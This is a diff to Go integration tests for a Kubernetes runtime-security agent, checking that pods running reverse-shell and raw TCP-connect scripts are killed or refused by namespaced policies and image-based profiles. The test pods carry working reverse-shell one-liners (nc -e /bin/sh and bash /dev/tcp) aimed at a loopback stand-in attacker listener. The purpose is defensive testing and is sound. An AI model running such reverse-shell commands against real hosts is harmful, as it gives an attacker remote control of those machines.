@@ -1,57 +1,33 @@
 package k8s
 
 import (
-	"bufio"
 	"encoding/json"
 	"fmt"
-	"net"
 	"os/exec"
 	"path/filepath"
 	"strings"
-	"sync/atomic"
 	"testing"
 	"time"
 
 	"github.com/ocigate/ocigate/internal/seeds"
+	"github.com/ocigate/ocigate/internal/testenv/peer"
 )
 
-// listener is the stand-in attacker: it sends a command to whoever
-// connects and records whether a shell answered.
-type listener struct {
-	ln       net.Listener
-	conns    atomic.Int32
-	answered atomic.Bool
-}
-
-func listen(t *testing.T, addr string) *listener {
+// listen starts the stand-in attacker (internal/testenv/peer): it sends
+// a command to whoever connects and records what comes back, so a shell
+// that answered shows as "OWNED-42" in Received.
+func listen(t *testing.T, addr string) *peer.Listener {
 	t.Helper()
-	ln, err := net.Listen("tcp", addr)
+	l, err := peer.Listen(addr, []byte("echo OWNED-$((6*7))\n"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	l := &listener{ln: ln}
-	t.Cleanup(func() { ln.Close() })
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			l.conns.Add(1)
-			go func() {
-				defer c.Close()
-				_, _ = c.Write([]byte("echo OWNED-$((6*7))\n"))
-				_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
-				if s, _ := bufio.NewReader(c).ReadString('\n'); strings.Contains(s, "OWNED-42") {
-					l.answered.Store(true)
-				}
-			}()
-		}
-	}()
+	t.Cleanup(func() { l.Close() })
 	return l
 }
 
-func (l *listener) port() int { return l.ln.Addr().(*net.TCPAddr).Port }
+// answered reports whether a shell answered l's command.
+func answered(l *peer.Listener) bool { return strings.Contains(l.Received(), "OWNED-42") }
 
 // TestHelmInstall installs the chart with Helm (go tool helm) and waits
 // for the DaemonSet's pod to be ready: its probes pass only when the
@@ -76,9 +52,9 @@ func TestReverseShellPodStopped(t *testing.T) {
 	labels := map[string]string{"app": "revshell"}
 	for _, p := range []podSpec{
 		{ns: ns, name: "nc-e", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: labels,
-			script: fmt.Sprintf("sleep 1; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())},
+			script: fmt.Sprintf("sleep 1; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.Port())},
 		{ns: ns, name: "bash-dev-tcp", image: "bash", shell: "/bin/bash", hostNetwork: true, labels: labels,
-			script: fmt.Sprintf("sleep 1; bash -i >& /dev/tcp/127.0.0.1/%d 0>&1; echo rc=$?", l.port())},
+			script: fmt.Sprintf("sleep 1; bash -i >& /dev/tcp/127.0.0.1/%d 0>&1; echo rc=$?", l.Port())},
 	} {
 		_, logs := run(t, p)
 		if !strings.Contains(logs, "rc=137") {
@@ -90,7 +66,7 @@ func TestReverseShellPodStopped(t *testing.T) {
 		t.Logf("%s: %v %v in pod %v/%v", p.name, ev["function_name"], ev["action"],
 			field(ev, "process", "pod", "namespace"), field(ev, "process", "pod", "name"))
 	}
-	if l.answered.Load() {
+	if answered(l) {
 		t.Errorf("a shell answered the listener")
 	}
 }
@@ -119,16 +95,16 @@ func TestNamespacedPolicyStaysInItsNamespace(t *testing.T) {
 	kubectl(t, fmt.Sprintf(denyLoopback2, a), "apply", "-f", "-")
 	took := policyLoaded(t, "tracingpoliciesnamespaced", a, "deny-127-0-0-2")
 	t.Logf("kubectl apply to loaded on the node: %v", took)
-	script := fmt.Sprintf("nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.port())
+	script := fmt.Sprintf("nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.Port())
 	web := map[string]string{"app": "web"}
 	_, logs := run(t, podSpec{ns: a, name: "web", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: web, script: script})
-	if strings.Contains(logs, "rc=0") || l.conns.Load() != 0 {
-		t.Errorf("namespace %s: the connect was not refused: %q, %d connections", a, logs, l.conns.Load())
+	if strings.Contains(logs, "rc=0") || len(l.Conns()) != 0 {
+		t.Errorf("namespace %s: the connect was not refused: %q, %d connections", a, logs, len(l.Conns()))
 	}
 	waitEvent(t, a, "web", map[string]string{"policy_name": a + ".deny-127-0-0-2", "function_name": "tcp_connect"})
 	_, logs = run(t, podSpec{ns: b, name: "web", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: web, script: script})
-	if !strings.Contains(logs, "rc=0") || l.conns.Load() != 1 {
-		t.Errorf("namespace %s: the policy of %s touched it: %q, %d connections", b, a, logs, l.conns.Load())
+	if !strings.Contains(logs, "rc=0") || len(l.Conns()) != 1 {
+		t.Errorf("namespace %s: the policy of %s touched it: %q, %d connections", b, a, logs, len(l.Conns()))
 	}
 	if evs := events(t, b, "web"); hasPolicy(evs, a+".deny-127-0-0-2") {
 		t.Errorf("namespace %s has events of %s's policy", b, a)
@@ -139,9 +115,9 @@ func TestNamespacedPolicyStaysInItsNamespace(t *testing.T) {
 // relabel: a running pod that the policy does not select gets the
 // label it selects; the agent moves it to the generated profile and its
 // next connect is refused.
-func relabel(t *testing.T, ns string, l *listener) {
+func relabel(t *testing.T, ns string, l *peer.Listener) {
 	t.Helper()
-	script := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.port())
+	script := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.Port())
 	kubectl(t, podSpec{ns: ns, name: "relabel", image: "busybox", shell: "/bin/sh", hostNetwork: true,
 		labels: map[string]string{"app": "other"}, script: script}.manifest(), "apply", "-f", "-")
 	kubectl(t, "", "-n", ns, "wait", "--for=condition=Ready", "pod/relabel", "--timeout=60s")
@@ -158,10 +134,10 @@ func relabel(t *testing.T, ns string, l *listener) {
 		return nil
 	})
 	t.Logf("kubectl label to the pod's new profile: %v", time.Since(start).Round(time.Millisecond))
-	conns := l.conns.Load()
+	conns := len(l.Conns())
 	kubectl(t, "", "-n", ns, "exec", "relabel", "--", "touch", "/tmp/go")
 	kubectl(t, "", "-n", ns, "wait", "--for=jsonpath={.status.phase}=Succeeded", "pod/relabel", "--timeout=30s")
-	if logs := kubectl(t, "", "-n", ns, "logs", "relabel"); strings.Contains(logs, "rc=0") || l.conns.Load() != conns {
+	if logs := kubectl(t, "", "-n", ns, "logs", "relabel"); strings.Contains(logs, "rc=0") || len(l.Conns()) != conns {
 		t.Errorf("after the label change the connect was not refused: %q", logs)
 	}
 }
@@ -281,14 +257,14 @@ func TestWorkloadProfileByImage(t *testing.T) {
 	t.Cleanup(func() { _, _ = kubectlErr("", "delete", "workloadprofile", name) })
 	policyLoaded(t, "workloadprofile", "", name)
 	_, logs := run(t, podSpec{ns: ns, name: "bash", image: "bash", shell: "/bin/bash", hostNetwork: true,
-		script: fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.2/%d; echo rc=$?", l.port())})
-	if strings.Contains(logs, "rc=0") || l.conns.Load() != 0 {
+		script: fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.2/%d; echo rc=$?", l.Port())})
+	if strings.Contains(logs, "rc=0") || len(l.Conns()) != 0 {
 		t.Errorf("the bash image's connect was not refused: %q", logs)
 	}
 	waitEvent(t, ns, "bash", map[string]string{"policy_name": name, "function_name": "tcp_connect"})
 	_, logs = run(t, podSpec{ns: ns, name: "busybox", image: "busybox", shell: "/bin/sh", hostNetwork: true,
-		script: fmt.Sprintf("nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.port())})
-	if !strings.Contains(logs, "rc=0") || l.conns.Load() != 1 {
+		script: fmt.Sprintf("nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.Port())})
+	if !strings.Contains(logs, "rc=0") || len(l.Conns()) != 1 {
 		t.Errorf("the profile of the bash image touched a busybox pod: %q", logs)
 	}
 }
